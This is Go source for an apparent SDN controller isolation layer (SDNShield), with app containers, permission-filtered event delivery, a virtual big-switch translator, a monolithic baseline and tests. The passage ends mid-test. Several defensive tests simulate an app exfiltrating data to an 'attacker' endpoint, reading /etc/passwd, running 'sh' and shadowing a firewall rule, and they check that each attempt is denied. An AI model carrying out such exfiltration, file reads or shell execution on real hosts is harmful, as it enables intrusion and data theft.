// QuarantineReason reports why the container was quarantined ("" while it
// is not).
func (c *Container) QuarantineReason() string {
	c.supMu.Lock()
	defer c.supMu.Unlock()
	return c.quarReason
}

// Name returns the contained app's identity.
func (c *Container) Name() string { return c.name }

// DroppedEvents reports how many events overflowed the app's queue.
func (c *Container) DroppedEvents() uint64 { return c.dropped.Load() }

// Panics reports how many app panics the container absorbed.
func (c *Container) Panics() uint64 { return c.panics.Load() }

// Stop terminates the container's event loops.
func (c *Container) Stop() {
	c.stopOnce.Do(func() {
		close(c.stop)
		c.health.Store(int32(Stopped))
		// Unhook kernel subscriptions so no further events arrive.
		c.unhookAll()
	})
	<-c.done
	c.workers.Wait()
}

// extraEventLoop is one app-spawned worker draining the same queue.
func (c *Container) extraEventLoop() {
	c.res.goroutines.Add(1)
	defer c.res.goroutines.Add(-1)
	for {
		select {
		case <-c.stop:
			return
		case ev := <-c.events:
			if c.Health() != Running {
				c.dropped.Add(1)
				c.metrics.dropped.Inc()
				continue
			}
			if c.deliver(ev) {
				c.onPanic()
			}
		}
	}
}

func (c *Container) safeInit(app App, api API) (err error) {
	defer func() {
		if r := recover(); r != nil {
			c.panics.Add(1)
			c.metrics.panics.Inc()
			auditApp(c.name, audit.VerdictPanic, fmt.Sprintf("init: %v", r))
			err = fmt.Errorf("app panicked during init: %v", r)
		}
	}()
	return app.Init(api)
}

// eventLoop delivers queued events to the app's handlers on the
// container goroutine, absorbing panics. A panicking handler hands the
// container to the supervisor (restart with backoff, quarantine past the
// panic budget); while the container is not Running, queued events drain
// without delivery.
func (c *Container) eventLoop() {
	defer close(c.done)
	c.res.goroutines.Add(1)
	defer c.res.goroutines.Add(-1)
	for {
		select {
		case <-c.stop:
			return
		case ev := <-c.events:
			if c.Health() != Running {
				c.dropped.Add(1)
				c.metrics.dropped.Inc()
				continue
			}
			if c.deliver(ev) {
				c.onPanic()
			}
		}
	}
}

// deliver fans one event out to the registered handlers, reporting
// whether any of them panicked.
func (c *Container) deliver(ev controller.Event) (panicked bool) {
	c.hmu.Lock()
	handlers := make([]controller.Handler, len(c.handlers[ev.Kind]))
	copy(handlers, c.handlers[ev.Kind])
	c.hmu.Unlock()
	for _, fn := range handlers {
		if c.safeHandle(fn, ev) {
			panicked = true
		}
	}
	return panicked
}

func (c *Container) safeHandle(fn controller.Handler, ev controller.Event) (panicked bool) {
	defer func() {
		if r := recover(); r != nil {
			c.panics.Add(1)
			c.metrics.panics.Inc()
			auditApp(c.name, audit.VerdictPanic, fmt.Sprintf("handler for %v: %v", ev.Kind, r))
			panicked = true
		}
	}()
	fn(ev)
	return false
}

// subscribe wires an app handler: loading-time token check, kernel
// subscription (once per kind) with per-event permission filtering and
// payload redaction, and queued delivery into the container.
func (c *Container) subscribe(kind controller.EventKind, fn controller.Handler) error {
	token, ok := eventToken(kind)
	if !ok {
		return fmt.Errorf("isolation: unknown event kind %v", kind)
	}
	// Loading-time access control (§VIII): no token, no wiring at all.
	if !c.shield.engine.HasToken(c.name, token) {
		return &permengine.DeniedError{App: c.name, Token: token, Detail: "event subscription"}
	}
	c.hmu.Lock()
	defer c.hmu.Unlock()
	c.handlers[kind] = append(c.handlers[kind], fn)
	if _, wired := c.kernels[kind]; !wired {
		id := c.shield.kernel.Subscribe(kind, func(ev controller.Event) {
			if !c.shield.allowEvent(c.name, ev) {
				return
			}
			ev = c.shield.redactEvent(c.name, ev)
			if c.shield.cfg.DropOnFullQueue {
				select {
				case c.events <- ev:
				case <-c.stop:
				default:
					c.dropped.Add(1)
					c.metrics.dropped.Inc()
				}
				return
			}
			select {
			case c.events <- ev:
			case <-c.stop:
			}
		})
		c.kernels[kind] = id
	}
	return nil
}

// allowEvent runs the per-event permission check.
func (s *Shield) allowEvent(app string, ev controller.Event) bool {
	token, ok := eventToken(ev.Kind)
	if !ok {
		return false
	}
	call := &core.Call{App: app, Token: token, Event: core.CallbackObserve}
	switch ev.Kind {
	case controller.EventPacketIn:
		call.DPID = ev.PacketIn.DPID
		call.HasDPID = true
		call.Match = of.MatchFromPacket(ev.PacketIn.Packet, ev.PacketIn.InPort)
	case controller.EventFlowRemoved:
		call.DPID = ev.FlowRemoved.DPID
		call.HasDPID = true
		call.Match = ev.FlowRemoved.Match
		call.Priority = ev.FlowRemoved.Priority
		call.HasPriority = true
		call.FlowOwner = ev.FlowOwner
		call.HasFlowOwner = true
	case controller.EventPortStatus:
		call.DPID = ev.PortStatus.DPID
		call.HasDPID = true
	case controller.EventTopology:
		tc := ev.TopoChange
		call.Switches = append(call.Switches, tc.DPID)
		if tc.Peer != 0 {
			call.Switches = append(call.Switches, tc.Peer)
			call.Links = []core.LinkID{core.NewLinkID(tc.DPID, tc.Peer)}
		}
	case controller.EventError, controller.EventDataModel:
		// Token-level check only.
	}
	return s.engine.Check(call) == nil
}

// redactEvent strips packet payloads from apps without read_payload.
func (s *Shield) redactEvent(app string, ev controller.Event) controller.Event {
	if ev.Kind != controller.EventPacketIn || ev.PacketIn == nil || ev.PacketIn.Packet == nil {
		return ev
	}
	if len(ev.PacketIn.Packet.Payload) == 0 {
		return ev
	}
	if s.engine.HasToken(app, core.TokenReadPayload) {
		return ev
	}
	pin := *ev.PacketIn
	pin.Packet = pin.Packet.Clone()
	pin.Packet.Payload = nil
	ev.PacketIn = &pin
	return ev
}
