package isolation

import (
	"fmt"
	"sort"

	"sdnshield/internal/controller"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// translator implements the abstract-topology evaluation of §VI-B1: apps
// behind a VIRTUAL SINGLE_BIG_SWITCH filter see one switch (DPID 0) whose
// ports are the physical network's external ports. Flow rules addressed
// to the virtual switch are expanded into per-switch rules along shortest
// physical paths; statistics queries fan out to the member switches and
// aggregate.
type translator struct {
	kernel *controller.Kernel
	app    string
}

func newTranslator(kernel *controller.Kernel, app string) *translator {
	return &translator{kernel: kernel, app: app}
}

// bigSwitchDPID is the DPID of the app-visible virtual switch.
const bigSwitchDPID of.DPID = 0

func (t *translator) mapping() *topology.BigSwitchMap {
	return topology.BuildBigSwitchMap(t.kernel.Topology())
}

func (t *translator) switches() []topology.SwitchInfo {
	m := t.mapping()
	return []topology.SwitchInfo{{DPID: bigSwitchDPID, Ports: m.Ports()}}
}

func (t *translator) hosts() []topology.Host {
	m := t.mapping()
	var out []topology.Host
	for _, h := range t.kernel.Topology().Hosts() {
		if v, ok := m.Virtual(topology.AttachPoint{Switch: h.Switch, Port: h.Port}); ok {
			out = append(out, topology.Host{MAC: h.MAC, IP: h.IP, Switch: bigSwitchDPID, Port: v})
		}
	}
	return out
}

// insertFlow expands one virtual rule. The virtual match may pin IN_PORT
// to a virtual port; Output actions address virtual ports; SetField
// actions are applied at the egress switch.
func (t *translator) insertFlow(api *shieldedAPI, corr uint64, dpid of.DPID, spec controller.FlowSpec) error {
	if dpid != bigSwitchDPID {
		return fmt.Errorf("isolation: app %q sees only the virtual switch %v", t.app, bigSwitchDPID)
	}
	// Check the virtual call itself (token + filters on the virtual view).
	if err := api.checkInsertFlow(corr, bigSwitchDPID, spec); err != nil {
		return err
	}
	m := t.mapping()

	match := spec.Match
	if match == nil {
		match = of.NewMatch()
	}
	// Pull the virtual ingress, if constrained.
	var ingress *topology.AttachPoint
	if v, mask := match.Get(of.FieldInPort); mask != 0 {
		ap, err := m.Physical(uint16(v))
		if err != nil {
			return err
		}
		ingress = &ap
	}
	physMatch := match.Clone()
	physMatch.SetMasked(of.FieldInPort, 0, 0) // ports are remapped physically

	var rewrites []of.Action
	var egress []uint16
	dropRule := len(spec.Actions) == 0
	for _, a := range spec.Actions {
		switch a.Type {
		case of.ActionDrop:
			dropRule = true
		case of.ActionSetField:
			rewrites = append(rewrites, a)
		case of.ActionOutput:
			egress = append(egress, a.Port)
		case of.ActionFlood:
			for p := 1; p <= m.NumPorts(); p++ {
				egress = append(egress, uint16(p))
			}
		}
	}

	if dropRule {
		return t.installDropEverywhere(corr, physMatch, ingress, spec)
	}
	for _, vport := range egress {
		ap, err := m.Physical(vport)
		if err != nil {
			return err
		}
		if err := t.installPathRules(corr, physMatch, ingress, ap, rewrites, spec); err != nil {
			return err
		}
	}
	return nil
}

// installDropEverywhere installs a drop rule on every member switch (or
// only the ingress switch when the virtual rule pins IN_PORT).
func (t *translator) installDropEverywhere(corr uint64, match *of.Match, ingress *topology.AttachPoint, spec controller.FlowSpec) error {
	topo := t.kernel.Topology()
	targets := topo.SwitchIDs()
	if ingress != nil {
		targets = []of.DPID{ingress.Switch}
	}
	for _, dpid := range targets {
		phys := match.Clone()
		if ingress != nil {
			phys.Set(of.FieldInPort, uint64(ingress.Port))
		}
		err := t.kernel.InsertFlowAs(controller.Origin{App: t.app, Corr: corr}, dpid, controller.FlowSpec{
			Match: phys, Priority: spec.Priority,
			Actions:     []of.Action{of.Drop()},
			IdleTimeout: spec.IdleTimeout, HardTimeout: spec.HardTimeout,
			Cookie: spec.Cookie,
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// installPathRules lays rules along shortest paths toward the egress
// attachment point. With a pinned ingress only that path is installed;
// otherwise every switch gets a rule forwarding toward the egress.
func (t *translator) installPathRules(corr uint64, match *of.Match, ingress *topology.AttachPoint, egressAP topology.AttachPoint, rewrites []of.Action, spec controller.FlowSpec) error {
	topo := t.kernel.Topology()
	sources := topo.SwitchIDs()
	if ingress != nil {
		sources = []of.DPID{ingress.Switch}
	}
	// installed dedups per-switch rules when multiple sources share path
	// suffixes.
	installed := make(map[of.DPID]bool)
	for _, src := range sources {
		path, ok := topo.ShortestPath(src, egressAP.Switch)
		if !ok {
			return fmt.Errorf("isolation: egress switch %v unreachable from %v", egressAP.Switch, src)
		}
		for i, hop := range path {
			if installed[hop.DPID] {
				continue
			}
			installed[hop.DPID] = true
			phys := match.Clone()
			if ingress != nil && hop.DPID == ingress.Switch && i == 0 {
				phys.Set(of.FieldInPort, uint64(ingress.Port))
			}
			var actions []of.Action
			if hop.DPID == egressAP.Switch {
				actions = append(actions, rewrites...)
				actions = append(actions, of.Output(egressAP.Port))
			} else {
				actions = append(actions, of.Output(hop.OutPort))
			}
			err := t.kernel.InsertFlowAs(controller.Origin{App: t.app, Corr: corr}, hop.DPID, controller.FlowSpec{
				Match: phys, Priority: spec.Priority, Actions: actions,
				IdleTimeout: spec.IdleTimeout, HardTimeout: spec.HardTimeout,
				Cookie: spec.Cookie,
			})
			if err != nil {
				return err
			}
		}
	}
	return nil
}

// deleteFlow removes the app's translated rules matching the virtual
// match from every member switch.
func (t *translator) deleteFlow(api *shieldedAPI, corr uint64, dpid of.DPID, match *of.Match, priority uint16, strict bool) error {
	if dpid != bigSwitchDPID {
		return fmt.Errorf("isolation: app %q sees only the virtual switch %v", t.app, bigSwitchDPID)
	}
	call := api.virtualDeleteCall(corr, match, priority)
	if err := api.engine().Check(call); err != nil {
		return err
	}
	if match == nil {
		match = of.NewMatch()
	}
	physMatch := match.Clone()
	physMatch.SetMasked(of.FieldInPort, 0, 0)
	for _, sw := range t.kernel.Topology().SwitchIDs() {
		entries, err := t.kernel.Flows(sw, physMatch)
		if err != nil {
			continue
		}
		for _, e := range entries {
			if e.Owner != t.app {
				continue // never touch other apps' physical rules
			}
			if strict && e.Priority != priority {
				continue
			}
			if err := t.kernel.DeleteFlowAs(controller.Origin{App: t.app, Corr: corr}, sw, e.Match, e.Priority, true); err != nil {
				return err
			}
		}
	}
	return nil
}

// flowStats aggregates the app's translated rules across member
// switches, grouped by physical match.
func (t *translator) flowStats(dpid of.DPID, match *of.Match) ([]of.FlowStatsEntry, error) {
	if dpid != bigSwitchDPID {
		return nil, fmt.Errorf("isolation: app %q sees only the virtual switch %v", t.app, bigSwitchDPID)
	}
	if match == nil {
		match = of.NewMatch()
	}
	physMatch := match.Clone()
	physMatch.SetMasked(of.FieldInPort, 0, 0)
	agg := make(map[string]*of.FlowStatsEntry)
	var order []string
	for _, sw := range t.kernel.Topology().SwitchIDs() {
		// Aggregate over the kernel's authoritative per-switch counters.
		rows, err := t.kernel.FlowStats(sw, physMatch)
		if err != nil {
			return nil, err
		}
		owned, err := t.kernel.Flows(sw, physMatch)
		if err != nil {
			return nil, err
		}
		ours := make(map[string]bool, len(owned))
		for _, e := range owned {
			if e.Owner == t.app {
				ours[e.Match.Key()+fmt.Sprint(e.Priority)] = true
			}
		}
		for _, row := range rows {
			key := row.Match.Key() + fmt.Sprint(row.Priority)
			if !ours[key] {
				continue
			}
			// Strip the physical in-port for the virtual view key.
			vMatch := row.Match.Clone()
			vMatch.SetMasked(of.FieldInPort, 0, 0)
			vkey := vMatch.Key() + fmt.Sprint(row.Priority)
			if entry, ok := agg[vkey]; ok {
				entry.Packets += row.Packets
				entry.Bytes += row.Bytes
			} else {
				agg[vkey] = &of.FlowStatsEntry{
					Match: vMatch, Priority: row.Priority, Cookie: row.Cookie,
					Packets: row.Packets, Bytes: row.Bytes,
				}
				order = append(order, vkey)
			}
		}
	}
	sort.Strings(order)
	out := make([]of.FlowStatsEntry, 0, len(order))
	for _, k := range order {
		out = append(out, *agg[k])
	}
	return out, nil
}

// portStats maps virtual ports to physical attachment points and queries
// each.
func (t *translator) portStats(dpid of.DPID, vport uint16) ([]of.PortStatsEntry, error) {
	if dpid != bigSwitchDPID {
		return nil, fmt.Errorf("isolation: app %q sees only the virtual switch %v", t.app, bigSwitchDPID)
	}
	m := t.mapping()
	var vports []uint16
	if vport == of.PortNone {
		for p := 1; p <= m.NumPorts(); p++ {
			vports = append(vports, uint16(p))
		}
	} else {
		vports = []uint16{vport}
	}
	out := make([]of.PortStatsEntry, 0, len(vports))
	for _, vp := range vports {
		ap, err := m.Physical(vp)
		if err != nil {
			return nil, err
		}
		rows, err := t.kernel.PortStats(ap.Switch, ap.Port)
		if err != nil {
			return nil, err
		}
		for _, row := range rows {
			row.Port = vp
			out = append(out, row)
		}
	}
	return out, nil
}

// switchStats aggregates switch-level counters over all member switches.
func (t *translator) switchStats() (of.SwitchStats, error) {
	var agg of.SwitchStats
	for _, sw := range t.kernel.Topology().SwitchIDs() {
		s, err := t.kernel.SwitchStats(sw)
		if err != nil {
			return of.SwitchStats{}, err
		}
		agg.FlowCount += s.FlowCount
		agg.PacketsTotal += s.PacketsTotal
		agg.BytesTotal += s.BytesTotal
	}
	return agg, nil
}
