package isolation

import (
	"fmt"
	"sync"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/flowtable"
	"sdnshield/internal/hostsim"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// Monolith is the baseline controller runtime: app code executes in the
// controller's own execution context with direct, unchecked access to
// every kernel service — the architecture of stock OpenDaylight and
// Floodlight the paper measures SDNShield against.
type Monolith struct {
	kernel *controller.Kernel

	mu   sync.Mutex
	apps map[string]API
}

// NewMonolith builds the baseline runtime over a kernel.
func NewMonolith(kernel *controller.Kernel) *Monolith {
	return &Monolith{kernel: kernel, apps: make(map[string]API)}
}

// Launch initializes an app with direct kernel access. Handlers run
// synchronously on the kernel's dispatch goroutine, as in a monolithic
// controller.
func (m *Monolith) Launch(app App) error {
	m.mu.Lock()
	if _, dup := m.apps[app.Name()]; dup {
		m.mu.Unlock()
		return fmt.Errorf("isolation: app %q already launched", app.Name())
	}
	api := &directAPI{name: app.Name(), kernel: m.kernel}
	m.apps[app.Name()] = api
	m.mu.Unlock()
	return app.Init(api)
}

// Kernel exposes the underlying kernel (the monolith has no boundary).
func (m *Monolith) Kernel() *controller.Kernel { return m.kernel }

// directAPI is the unmediated API implementation.
type directAPI struct {
	name   string
	kernel *controller.Kernel
}

var _ API = (*directAPI)(nil)

func (a *directAPI) AppName() string { return a.name }

func (a *directAPI) InsertFlow(dpid of.DPID, spec controller.FlowSpec) error {
	return a.kernel.InsertFlow(a.name, dpid, spec)
}

func (a *directAPI) ModifyFlow(dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
	return a.kernel.ModifyFlow(dpid, match, priority, actions)
}

func (a *directAPI) DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) error {
	return a.kernel.DeleteFlow(dpid, match, priority, strict)
}

func (a *directAPI) Flows(dpid of.DPID, match *of.Match) ([]*flowtable.Entry, error) {
	return a.kernel.Flows(dpid, match)
}

func (a *directAPI) SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) error {
	return a.kernel.SendPacketOut(dpid, bufferID, inPort, actions, pkt)
}

func (a *directAPI) FlowStats(dpid of.DPID, match *of.Match) ([]of.FlowStatsEntry, error) {
	return a.kernel.FlowStats(dpid, match)
}

func (a *directAPI) PortStats(dpid of.DPID, port uint16) ([]of.PortStatsEntry, error) {
	return a.kernel.PortStats(dpid, port)
}

func (a *directAPI) SwitchStats(dpid of.DPID) (of.SwitchStats, error) {
	return a.kernel.SwitchStats(dpid)
}

func (a *directAPI) Switches() ([]topology.SwitchInfo, error) {
	return a.kernel.Topology().Switches(), nil
}

func (a *directAPI) Links() ([]topology.Link, error) {
	return a.kernel.Topology().Links(), nil
}

func (a *directAPI) Hosts() ([]topology.Host, error) {
	return a.kernel.Topology().Hosts(), nil
}

func (a *directAPI) AddLink(l topology.Link) error { return a.kernel.AddLink(l) }

func (a *directAPI) RemoveLink(x, y of.DPID) error {
	a.kernel.RemoveLink(x, y)
	return nil
}

func (a *directAPI) Publish(path string, value interface{}) error {
	a.kernel.Publish(path, value)
	return nil
}

func (a *directAPI) ReadModel(path string) (interface{}, bool, error) {
	v, ok := a.kernel.ReadModel(path)
	return v, ok, nil
}

func (a *directAPI) HostConnect(ip of.IPv4, port uint16) (*hostsim.Conn, error) {
	return a.kernel.HostOS().Connect(ip, port)
}

func (a *directAPI) HostReadFile(path string) ([]byte, error) {
	return a.kernel.HostOS().ReadFile(path)
}

func (a *directAPI) HostWriteFile(path string, data []byte) error {
	a.kernel.HostOS().WriteFile(path, data)
	return nil
}

func (a *directAPI) HostExec(cmd string) error {
	a.kernel.HostOS().Exec(cmd)
	return nil
}

func (a *directAPI) Subscribe(kind controller.EventKind, fn controller.Handler) error {
	a.kernel.Subscribe(kind, fn)
	return nil
}

func (a *directAPI) HasPermission(core.Token) bool {
	// The monolith grants everything — exactly the over-privilege the
	// paper's threat model starts from.
	return true
}

func (a *directAPI) Transaction() *Tx {
	return &Tx{api: a}
}
