package isolation

import (
	"errors"
	"sync"
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
	"sdnshield/internal/permlang"
	"sdnshield/internal/topology"
)

// testEnv is a netsim network wired to a kernel plus a shield runtime.
type testEnv struct {
	built  *netsim.Built
	kernel *controller.Kernel
	shield *Shield
}

func newEnv(t *testing.T, switches int) *testEnv {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := controller.New(b.Topo, nil)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	s := NewShield(k, Config{KSDWorkers: 2, EventQueueSize: 64})
	t.Cleanup(func() {
		s.Stop()
		k.Stop()
		b.Net.Stop()
	})
	return &testEnv{built: b, kernel: k, shield: s}
}

// funcApp adapts a closure into an App.
type funcApp struct {
	name string
	init func(API) error
}

func (f *funcApp) Name() string       { return f.name }
func (f *funcApp) Init(api API) error { return f.init(api) }
func app(name string, init func(API) error) *funcApp {
	return &funcApp{name: name, init: init}
}

func grant(t *testing.T, s *Shield, name, manifest string) {
	t.Helper()
	s.SetPermissions(name, permlang.MustParse(manifest).Set())
}

func TestShieldedInsertFlowAllowedAndDenied(t *testing.T) {
	env := newEnv(t, 2)
	grant(t, env.shield, "router", "PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS")

	var api API
	if err := env.shield.Launch(app("router", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	spec := controller.FlowSpec{
		Match:    of.NewMatch().Set(of.FieldIPDst, uint64(env.built.Hosts[1].IP())),
		Priority: 10,
		Actions:  []of.Action{of.Output(3)},
	}
	if err := api.InsertFlow(1, spec); err != nil {
		t.Fatalf("forward rule denied: %v", err)
	}
	// Rule landed on the switch with ownership in the shadow.
	if owner, ok := env.kernel.FlowOwner(1, spec.Match, 10); !ok || owner != "router" {
		t.Errorf("owner = %q, %v", owner, ok)
	}

	// Denied: drop action.
	bad := spec
	bad.Match = of.NewMatch().Set(of.FieldIPDst, 42)
	bad.Actions = []of.Action{of.Drop()}
	var denied *permengine.DeniedError
	if err := api.InsertFlow(1, bad); !errors.As(err, &denied) {
		t.Fatalf("drop rule should be denied, got %v", err)
	}

	// Denied: no manifest at all.
	grantless := app("ghost", func(a API) error {
		return a.InsertFlow(1, spec)
	})
	if err := env.shield.Launch(grantless); err == nil {
		t.Fatal("ghost app's insert should fail Init")
	}
}

func TestOwnershipPreventsOverride(t *testing.T) {
	// The §VII Scenario 2 property: a routing app with OWN_FLOWS cannot
	// overwrite (shadow) the firewall's rules.
	env := newEnv(t, 2)
	grant(t, env.shield, "firewall", "PERM insert_flow")
	grant(t, env.shield, "router", "PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS")

	var fwAPI, rtAPI API
	if err := env.shield.Launch(app("firewall", func(a API) error { fwAPI = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("router", func(a API) error { rtAPI = a; return nil })); err != nil {
		t.Fatal(err)
	}

	// Firewall blocks port 22 with priority 100.
	fwMatch := of.NewMatch().Set(of.FieldTPDst, 22)
	if err := fwAPI.InsertFlow(1, controller.FlowSpec{Match: fwMatch, Priority: 100, Actions: []of.Action{of.Drop()}}); err != nil {
		t.Fatal(err)
	}

	// Router tries to shadow it with a higher-priority forward rule
	// (dynamic-flow-tunneling step 1): denied.
	evil := of.NewMatch().Set(of.FieldTPDst, 22).Set(of.FieldIPDst, uint64(env.built.Hosts[1].IP()))
	err := rtAPI.InsertFlow(1, controller.FlowSpec{Match: evil, Priority: 200, Actions: []of.Action{of.Output(3)}})
	var denied *permengine.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("override should be denied, got %v", err)
	}

	// A lower-priority rule in disjoint flow space is fine.
	ok := of.NewMatch().Set(of.FieldTPDst, 443)
	if err := rtAPI.InsertFlow(1, controller.FlowSpec{Match: ok, Priority: 50, Actions: []of.Action{of.Output(3)}}); err != nil {
		t.Fatalf("disjoint rule denied: %v", err)
	}

	// Router cannot delete or modify the firewall's rule either.
	if err := rtAPI.DeleteFlow(1, fwMatch, 0, false); err == nil {
		t.Error("foreign delete should be denied")
	}
	if err := rtAPI.ModifyFlow(1, fwMatch, 100, []of.Action{of.Output(3)}); err == nil {
		t.Error("foreign modify should be denied")
	}
	// The firewall rule is intact.
	if owner, ok := env.kernel.FlowOwner(1, fwMatch, 100); !ok || owner != "firewall" {
		t.Errorf("firewall rule gone: %q, %v", owner, ok)
	}
}

func TestFlowVisibilityFiltering(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "writer", "PERM insert_flow")
	grant(t, env.shield, "peeker", "PERM read_flow_table LIMITING OWN_FLOWS OR IP_DST 10.13.0.0 MASK 255.255.0.0\nPERM insert_flow")

	var writer, peeker API
	if err := env.shield.Launch(app("writer", func(a API) error { writer = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("peeker", func(a API) error { peeker = a; return nil })); err != nil {
		t.Fatal(err)
	}

	inSubnet := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 1, 1)))
	outSubnet := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(192, 168, 1, 1)))
	if err := writer.InsertFlow(1, controller.FlowSpec{Match: inSubnet, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	if err := writer.InsertFlow(1, controller.FlowSpec{Match: outSubnet, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	own := of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(172, 16, 0, 1)))
	if err := peeker.InsertFlow(1, controller.FlowSpec{Match: own, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}

	entries, err := peeker.Flows(1, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 2 {
		t.Fatalf("visible entries = %d, want 2 (own + in-subnet)", len(entries))
	}
	for _, e := range entries {
		v, _ := e.Match.Get(of.FieldIPDst)
		ip := of.IPv4(v)
		if e.Owner != "peeker" && !ip.InSubnet(of.IPv4FromOctets(10, 13, 0, 0), of.PrefixMask(16)) {
			t.Errorf("leaked entry %v owned by %s", e.Match, e.Owner)
		}
	}

	// An app with no read token is denied outright.
	grant(t, env.shield, "blind", "PERM insert_flow")
	var blind API
	if err := env.shield.Launch(app("blind", func(a API) error { blind = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if _, err := blind.Flows(1, nil); err == nil {
		t.Error("read without token should be denied")
	}
}

func TestHostSyscallMediation(t *testing.T) {
	env := newEnv(t, 1)
	adminIP := of.IPv4FromOctets(10, 1, 0, 5)
	attackerIP := of.IPv4FromOctets(203, 0, 113, 7)
	admin := env.kernel.HostOS().RegisterEndpoint(adminIP, 443)
	attacker := env.kernel.HostOS().RegisterEndpoint(attackerIP, 80)

	grant(t, env.shield, "monitor", `
PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0
PERM read_statistics
`)
	var api API
	if err := env.shield.Launch(app("monitor", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	conn, err := api.HostConnect(adminIP, 443)
	if err != nil {
		t.Fatalf("admin connect denied: %v", err)
	}
	conn.Send([]byte("report"))
	if len(admin.Received()) != 1 {
		t.Error("admin report lost")
	}

	if _, err := api.HostConnect(attackerIP, 80); err == nil {
		t.Fatal("exfiltration connect should be denied")
	}
	if len(attacker.Received()) != 0 {
		t.Error("data leaked to attacker")
	}

	// File system and process runtime are not granted.
	if _, err := api.HostReadFile("/etc/passwd"); err == nil {
		t.Error("file read should be denied")
	}
	if err := api.HostWriteFile("/tmp/x", nil); err == nil {
		t.Error("file write should be denied")
	}
	if err := api.HostExec("sh"); err == nil {
		t.Error("exec should be denied")
	}
}

func TestEventDeliveryFilteringAndRedaction(t *testing.T) {
	env := newEnv(t, 2)
	// subnetApp only sees packet-ins for 10.0.0.2 and has no read_payload.
	grant(t, env.shield, "subnetApp", `
PERM pkt_in_event LIMITING IP_DST 10.0.0.2
`)
	// fullApp sees everything including payloads.
	grant(t, env.shield, "fullApp", `
PERM pkt_in_event
PERM read_payload
`)

	type rec struct {
		dst     of.IPv4
		payload []byte
	}
	var mu sync.Mutex
	events := map[string][]rec{}
	listen := func(name string) func(API) error {
		return func(a API) error {
			return a.Subscribe(controller.EventPacketIn, func(ev controller.Event) {
				mu.Lock()
				events[name] = append(events[name], rec{
					dst:     ev.PacketIn.Packet.IPDst,
					payload: ev.PacketIn.Packet.Payload,
				})
				mu.Unlock()
			})
		}
	}
	if err := env.shield.Launch(app("subnetApp", listen("subnetApp"))); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("fullApp", listen("fullApp"))); err != nil {
		t.Fatal(err)
	}

	h1, h2 := env.built.Hosts[0], env.built.Hosts[1]
	h1.SendTCP(h2, 1, 80, 0, []byte("secret")) // dst 10.0.0.2
	h2.SendTCP(h1, 1, 80, 0, []byte("other"))  // dst 10.0.0.1

	deadline := time.Now().Add(2 * time.Second)
	for {
		mu.Lock()
		full := len(events["fullApp"])
		mu.Unlock()
		if full >= 2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("events = %v", events)
		}
		time.Sleep(time.Millisecond)
	}
	// Allow any in-flight deliveries to subnetApp to complete.
	time.Sleep(20 * time.Millisecond)

	mu.Lock()
	defer mu.Unlock()
	if len(events["subnetApp"]) != 1 {
		t.Fatalf("subnetApp saw %d events, want 1", len(events["subnetApp"]))
	}
	if events["subnetApp"][0].dst != h2.IP() {
		t.Error("wrong event passed the filter")
	}
	if len(events["subnetApp"][0].payload) != 0 {
		t.Error("payload must be redacted without read_payload")
	}
	for _, r := range events["fullApp"] {
		if len(r.payload) == 0 {
			t.Error("fullApp should see payloads")
		}
	}
}

func TestSubscribeWithoutTokenDenied(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "mute", "PERM read_statistics")
	err := env.shield.Launch(app("mute", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {})
	}))
	if err == nil {
		t.Fatal("subscription without token must fail at load time")
	}
}

func TestPanicContainment(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "crasher", "PERM pkt_in_event")

	// Panic in Init is contained and reported.
	err := env.shield.Launch(app("crasher", func(API) error { panic("boom") }))
	if err == nil {
		t.Fatal("panicking init must error")
	}

	// Panic in a handler is absorbed; the controller survives.
	grant(t, env.shield, "flaky", "PERM pkt_in_event")
	launched := app("flaky", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) { panic("handler boom") })
	})
	if err := env.shield.Launch(launched); err != nil {
		t.Fatal(err)
	}
	env.built.Hosts[0].Send(of.NewARPRequest(env.built.Hosts[0].MAC(), env.built.Hosts[0].IP(), 0))

	c, ok := env.shield.Container("flaky")
	if !ok {
		t.Fatal("container missing")
	}
	deadline := time.Now().Add(2 * time.Second)
	for c.Panics() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("handler panic not observed")
		}
		time.Sleep(time.Millisecond)
	}
